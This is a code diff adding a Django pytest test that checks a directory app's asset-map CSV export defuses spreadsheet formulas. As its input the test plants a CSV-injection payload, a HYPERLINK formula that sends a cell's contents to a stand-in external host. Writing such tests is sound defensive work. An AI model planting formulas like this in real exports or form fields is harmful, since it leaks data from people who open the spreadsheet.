@@ -9,7 +9,7 @@ import pytest
 from django.urls import reverse
 
 from commonweal.core.models import AuditEntry
-from commonweal.directory.constants import DirectoryAuditKind, InitiativeKind
+from commonweal.directory.constants import AssetType, DirectoryAuditKind, InitiativeKind
 from commonweal.directory.models import Initiative
 from commonweal.directory.tests.assets.factories import InitiativeFactory, place
 from commonweal.directory.tests.factories import ServiceFactory
@@ -221,3 +221,18 @@ def test_initiative_list(client, borough, officer, django_assert_max_num_queries
         response = client.get(reverse("directory:initiative_list"))
     assert response.status_code == 200
     assert b"Tilbury timebank" in response.content
+
+
+def test_asset_csv_does_not_hand_spreadsheets_a_formula(client, borough):
+    formula = '=HYPERLINK("https://example.org/?d="&A1, "Open")'
+    place(
+        ward=borough.grays,
+        name=formula,
+        asset_type=AssetType.CULTURAL,
+        meeting=True,
+        services=(ServiceFactory(),),
+    )
+    download = client.get(reverse("directory:asset_map_csv"), {"ward": borough.grays.code})
+    names = [row[0] for row in csv_rows(download)[1:]]
+    assert "'" + formula in names
+    assert formula not in names
